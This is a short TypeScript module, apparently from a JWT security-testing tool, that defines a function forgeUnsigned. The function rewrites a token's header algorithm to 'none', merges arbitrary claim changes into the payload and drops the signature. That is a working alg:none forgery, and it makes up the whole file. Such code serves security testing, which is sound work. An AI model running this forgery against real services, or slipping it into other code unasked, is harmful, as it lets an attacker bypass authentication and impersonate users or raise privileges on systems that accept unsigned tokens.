// diagnosis: alg-kept
// step: unsigned
import { decode, encode } from '../jwt/base64url.ts'
import { decodeJson, encodeJson } from '../jwt/json.ts'

export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const [first = '', second = ''] = token.split('.')
  const json = new TextDecoder().decode(decode(first)).replace(/"alg":"[^"]*"/, '"alg":"none"')
  return `${encode(new TextEncoder().encode(json))}.${encodeJson({ ...decodeJson(second), ...changes })}.`
}
